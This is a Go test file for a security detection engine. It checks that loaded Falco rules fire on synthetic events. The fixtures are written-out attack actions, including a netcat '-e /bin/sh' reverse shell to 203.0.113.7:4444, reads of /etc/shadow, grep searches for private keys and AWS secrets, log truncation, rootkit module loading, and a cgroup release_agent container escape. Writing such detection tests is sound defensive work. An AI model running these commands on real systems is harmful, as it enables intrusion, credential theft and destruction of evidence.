package detect

import (
	"os"
	"slices"
	"testing"
	"testing/fstest"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	vigilv1 "github.com/vigilsec/vigil/proto/vigil/v1"
)

func falcoFS(t testing.TB) fstest.MapFS {
	t.Helper()
	data, err := os.ReadFile("testdata/falco/falco_rules.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return fstest.MapFS{"falco_rules.yaml": {Data: data}}
}

// TestFalcoRulesLoad: the upstream file loads with every item compiled and
// not one unsupported field.
func TestFalcoRulesLoad(t *testing.T) {
	rs, errs := LoadRules(falcoFS(t), "")
	for _, e := range errs {
		t.Errorf("load problem: %v", e)
	}
	rules, macros, lists := rs.Counts()
	if rules != 25 || macros != 87 || lists != 49 {
		t.Fatalf("got %d rules, %d macros, %d lists; want 25, 87, 49", rules, macros, lists)
	}
	for _, r := range rs.Rules() {
		if !r.Enabled || len(r.Unsupported) > 0 {
			t.Errorf("rule %q disabled (unsupported %v)", r.Name, r.Unsupported)
		}
	}
	// Every rule is indexed by the event types its condition needs: none
	// of the stable rules runs on every event.
	if len(rs.anyType) != 0 {
		t.Errorf("%d rules have no evt.type constraint", len(rs.anyType))
	}
}

// Builders for the golden table.

func evProc(comm, exe string, args ...string) *vigilv1.Process {
	if len(args) == 0 {
		args = []string{comm}
	} else {
		args = append([]string{comm}, args...)
	}
	return mkProc(comm, exe, args...)
}

func withUser(p *vigilv1.Process, uid uint32, name string) *vigilv1.Process {
	p.Uid, p.Euid, p.UserName = uid, uid, name
	return p
}

func withTTY(p *vigilv1.Process, tty uint32) *vigilv1.Process { p.Tty = tty; return p }

func withCaps(p *vigilv1.Process, caps ...int) *vigilv1.Process {
	for _, c := range caps {
		p.CapEffective |= 1 << c
	}
	return p
}

const (
	capDacOverride = 1
	capSysModule   = 16
	capSysAdmin    = 21
)

func openRaw(p *vigilv1.Process, path, raw string, flags uint32, opts ...evOpt) *vigilv1.Event {
	e := openEv(p, path, flags, opts...)
	e.GetOpen().RequestedPath = raw
	return e
}

func linkEv(p *vigilv1.Process, symbolic bool, target, link string, opts ...evOpt) *vigilv1.Event {
	sc := "linkat"
	if symbolic {
		sc = "symlinkat"
	}
	e := mk(p, sc, opts...)
	e.Kind = &vigilv1.Event_Link{Link: &vigilv1.FileLink{Target: target, LinkPath: link, Symbolic: symbolic}}
	return e
}

func socketEv(p *vigilv1.Process, family string, opts ...evOpt) *vigilv1.Event {
	e := mk(p, "socket", opts...)
	e.Kind = &vigilv1.Event_Socket{Socket: &vigilv1.Socket{Family: 17, FamilyName: family, Type: 3}}
	return e
}

func dupEv(p *vigilv1.Process, newfd int64, opts ...evOpt) *vigilv1.Event {
	e := mk(p, "dup2", append([]evOpt{result(newfd, "")}, opts...)...)
	e.Kind = &vigilv1.Event_Dup{Dup: &vigilv1.Dup{OldFd: 3, NewFd: int32(newfd), OldFdKind: "socket",
		Remote: &vigilv1.SocketAddress{Family: "inet", Ip: "203.0.113.7", Port: 4444}}}
	return e
}

func moduleEv(p *vigilv1.Process, opts ...evOpt) *vigilv1.Event {
	e := mk(p, "finit_module", opts...)
	e.Kind = &vigilv1.Event_ModuleLoad{ModuleLoad: &vigilv1.ModuleLoad{Syscall: "finit_module", Path: "/tmp/rootkit.ko"}}
	return e
}

func ptraceEv(p *vigilv1.Process, req string, opts ...evOpt) *vigilv1.Event {
	e := mk(p, "ptrace", opts...)
	e.Kind = &vigilv1.Event_Ptrace{Ptrace: &vigilv1.Ptrace{RequestName: req, TargetPid: 4242}}
	return e
}

func started(p *vigilv1.Process, ago time.Duration) *vigilv1.Process {
	p.StartTime = timestamppb.New(t0.Add(-ago))
	return p
}

func upper(p *vigilv1.Process) *vigilv1.Process { p.ExeUpperLayer = true; return p }

func memfd(p *vigilv1.Process, path string) *vigilv1.Process {
	p.ExeFileless, p.ExePath = true, path
	return p
}

const (
	oWronly = 0o1
	oTrunc  = 0o1000
	oAppend = 0o2000
)

// TestFalcoRulesGolden matches every upstream rule against an event built
// to fire it and a close variant that must not.
func TestFalcoRulesGolden(t *testing.T) {
	rs, errs := LoadRules(falcoFS(t), "")
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	ctr := inContainer("docker.io/library/alpine:3.20")
	cases := []struct {
		rule   string
		setup  []*vigilv1.Event
		fire   *vigilv1.Event
		nofire *vigilv1.Event
	}{
		{
			rule:   "Directory traversal monitored file read",
			fire:   openRaw(withParents(evProc("php-fpm", "/usr/sbin/php-fpm"), "nginx"), "/etc/passwd", "/var/www/html/../../../etc/passwd", 0),
			nofire: openRaw(withParents(evProc("php-fpm", "/usr/sbin/php-fpm"), "nginx"), "/etc/passwd", "/etc/passwd", 0),
		},
		{
			rule:   "Read sensitive file trusted after startup",
			fire:   openEv(started(withParents(evProc("nginx", "/usr/sbin/nginx"), "systemd"), time.Hour), "/etc/shadow", 0),
			nofire: openEv(started(withParents(evProc("nginx", "/usr/sbin/nginx"), "systemd"), time.Second), "/etc/shadow", 0),
		},
		{
			rule:   "Read sensitive file untrusted",
			fire:   openEv(withParents(evProc("python3", "/usr/bin/python3", "steal.py"), "bash"), "/etc/shadow", 0),
			nofire: openEv(withParents(evProc("sshd", "/usr/sbin/sshd"), "systemd"), "/etc/shadow", 0),
		},
		{
			rule:   "Run shell untrusted",
			fire:   execEv(withParents(evProc("sh", "/bin/sh", "-c", "id"), "nginx", "systemd")),
			nofire: execEv(withParents(evProc("sh", "/bin/sh", "-c", "id"), "sshd", "systemd")),
		},
		{
			rule:   "System user interactive",
			fire:   execEv(withUser(withParents(evProc("ls", "/bin/ls"), "bash", "sshd"), 33, "www-data")),
			nofire: execEv(withUser(withParents(evProc("ls", "/bin/ls"), "bash", "sshd"), 1000, "alice")),
		},
		{
			rule:   "Terminal shell in container",
			fire:   execEv(withTTY(withParents(evProc("bash", "/bin/bash"), "containerd-shim"), 34816), ctr),
			nofire: execEv(withTTY(withParents(evProc("bash", "/bin/bash"), "containerd-shim"), 0), ctr),
		},
		{
			rule:   "Contact K8S API Server From Container",
			setup:  []*vigilv1.Event{dnsAnswerEv(evProc("curl", "/usr/bin/curl"), "kubernetes.default.svc.cluster.local", "10.96.0.1")},
			fire:   connectEv(evProc("curl", "/usr/bin/curl"), "10.96.0.1", 443, ctr),
			nofire: connectEv(evProc("curl", "/usr/bin/curl"), "10.96.0.2", 443, ctr),
		},
		{
			rule:   "Netcat Remote Code Execution in Container",
			fire:   execEv(evProc("nc", "/usr/bin/nc", "-e", "/bin/sh", "203.0.113.7", "4444"), ctr),
			nofire: execEv(evProc("nc", "/usr/bin/nc", "-l", "8080"), ctr),
		},
		{
			rule:   "Search Private Keys or Passwords",
			fire:   execEv(evProc("grep", "/bin/grep", "-r", "BEGIN RSA PRIVATE", "/home")),
			nofire: execEv(evProc("grep", "/bin/grep", "-r", "TODO", "/home")),
		},
		{
			rule:   "Clear Log Activities",
			fire:   openEv(evProc("bash", "/bin/bash"), "/var/log/auth.log", oWronly|oTrunc),
			nofire: openEv(evProc("bash", "/bin/bash"), "/var/log/auth.log", oWronly|oAppend),
		},
		{
			rule:   "Remove Bulk Data from Disk",
			fire:   execEv(evProc("shred", "/usr/bin/shred", "-u", "/data/db")),
			nofire: execEv(evProc("rm", "/usr/bin/rm", "/tmp/x")),
		},
		{
			rule:   "Create Symlink Over Sensitive Files",
			fire:   linkEv(evProc("ln", "/bin/ln"), true, "/etc/shadow", "/tmp/s"),
			nofire: linkEv(evProc("ln", "/bin/ln"), true, "/tmp/data", "/tmp/s"),
		},
		{
			rule:   "Create Hardlink Over Sensitive Files",
			fire:   linkEv(evProc("ln", "/bin/ln"), false, "/etc/shadow", "/tmp/s"),
			nofire: linkEv(evProc("ln", "/bin/ln"), false, "/etc/hostname", "/tmp/s"),
		},
		{
			rule:   "Packet socket created in container",
			fire:   socketEv(evProc("tcpdump", "/usr/bin/tcpdump"), "AF_PACKET", ctr),
			nofire: socketEv(evProc("tcpdump", "/usr/bin/tcpdump"), "AF_INET", ctr),
		},
		{
			rule:   "Redirect STDOUT/STDIN to Network Connection in Container",
			fire:   dupEv(evProc("bash", "/bin/bash"), 1, ctr),
			nofire: dupEv(evProc("bash", "/bin/bash"), 7, ctr),
		},
		{
			rule:   "Linux Kernel Module Injection Detected",
			fire:   moduleEv(withCaps(evProc("insmod", "/sbin/insmod", "rootkit.ko"), capSysModule), ctr),
			nofire: moduleEv(evProc("insmod", "/sbin/insmod", "rootkit.ko"), ctr),
		},
		{
			rule:   "Debugfs Launched in Privileged Container",
			fire:   execEv(evProc("debugfs", "/sbin/debugfs", "/dev/sda1"), ctr, privileged()),
			nofire: execEv(evProc("debugfs", "/sbin/debugfs", "/dev/sda1"), ctr),
		},
		{
			rule:   "Detect release_agent File Container Escapes",
			fire:   openEv(withCaps(evProc("sh", "/bin/sh"), capSysAdmin), "/tmp/cgrp/release_agent", oWronly, ctr),
			nofire: openEv(withCaps(evProc("sh", "/bin/sh"), capDacOverride), "/tmp/cgrp/release_agent", oWronly, ctr),
		},
		{
			rule:   "PTRACE attached to process",
			fire:   ptraceEv(evProc("injector", "/tmp/injector"), "PTRACE_ATTACH"),
			nofire: ptraceEv(evProc("injector", "/tmp/injector"), "PTRACE_PEEKDATA"),
		},
		{
			rule:   "PTRACE anti-debug attempt",
			fire:   ptraceEv(evProc("malware", "/tmp/malware"), "PTRACE_TRACEME"),
			nofire: ptraceEv(evProc("malware", "/tmp/malware"), "PTRACE_CONT"),
		},
		{
			rule:   "Find AWS Credentials",
			fire:   execEv(evProc("grep", "/bin/grep", "-ri", "aws_secret_access_key", "/home")),
			nofire: execEv(evProc("grep", "/bin/grep", "-ri", "hello", "/home")),
		},
		{
			rule: "Execution from /dev/shm",
			fire: execEv(func() *vigilv1.Process {
				p := evProc("x", "/dev/shm/x")
				p.Args[0] = "/dev/shm/x"
				return p
			}()),
			nofire: execEv(func() *vigilv1.Process {
				p := evProc("x", "/usr/bin/x")
				p.Args[0] = "/usr/bin/x"
				return p
			}()),
		},
		{
			rule:   "Drop and execute new binary in container",
			fire:   execEv(upper(evProc("xmrig", "/tmp/xmrig")), ctr),
			nofire: execEv(evProc("xmrig", "/tmp/xmrig"), ctr),
		},
		{
			rule:   "Disallowed SSH Connection Non Standard Port",
			fire:   connectEv(evProc("ssh", "/usr/bin/ssh", "-p", "443", "evil.example"), "198.51.100.9", 443),
			nofire: connectEv(evProc("ssh", "/usr/bin/ssh", "evil.example"), "198.51.100.9", 22),
		},
		{
			rule:   "Fileless execution via memfd_create",
			fire:   execEv(memfd(withParents(evProc("payload", ""), "python3"), "/memfd:payload (deleted)")),
			nofire: execEv(memfd(withParents(evProc("runc", ""), "containerd-shim"), "/memfd:runc_cloned:/proc/self/exe (deleted)")),
		},
	}
	covered := map[string]bool{}
	for _, tc := range cases {
		t.Run(tc.rule, func(t *testing.T) {
			e := NewEngine(EngineConfig{}, nil, nil)
			e.SetRules(rs)
			fired(e, tc.setup...)
			if got := ruleNames(fired(e, tc.fire)); !slices.Contains(got, tc.rule) {
				t.Errorf("event meant to fire %q fired %v", tc.rule, got)
			}
			if got := ruleNames(fired(e, tc.nofire)); slices.Contains(got, tc.rule) {
				t.Errorf("event meant not to fire %q fired it", tc.rule)
			}
		})
		covered[tc.rule] = true
	}
	for _, r := range rs.Rules() {
		if !covered[r.Name] {
			t.Errorf("rule %q has no golden case", r.Name)
		}
	}
}
